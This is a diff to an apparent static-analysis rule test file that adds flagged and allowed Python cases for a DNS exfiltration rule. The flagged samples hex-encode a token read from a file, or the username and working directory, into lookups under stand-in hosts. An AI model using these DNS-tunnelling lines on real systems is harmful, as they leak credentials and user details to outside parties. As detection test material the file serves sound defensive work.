@@ -8,6 +8,8 @@ import subprocess
 import urllib.parse
 import urllib.request
 import ftplib
+import binascii
+import getpass
 import requests
 import httpx
 from socket import socket as Sock, AF_INET, SOCK_STREAM
@@ -52,6 +54,14 @@ secret = open("token.txt").read()
 socket.gethostbyname(f"{secret.encode().hex()}.x.example.net")
 # ok: AIR-NET-006
 socket.gethostbyname("example.com")
+# ruleid: AIR-NET-014
+socket.gethostbyname(binascii.hexlify(secret.encode()).decode() + ".t.example.net")
+# ruleid: AIR-NET-014
+socket.getaddrinfo(f"{getpass.getuser()}.{os.getcwd()}".encode().hex() + ".oast.example", 80)
+# ok: AIR-NET-014
+socket.gethostbyname(socket.gethostname())
+# ok: AIR-NET-014
+socket.getaddrinfo(os.environ.get("DB_HOST", "localhost"), 5432)
 
 # ruleid: AIR-NET-007
 addr = socket.getaddrinfo("example.org", 443)
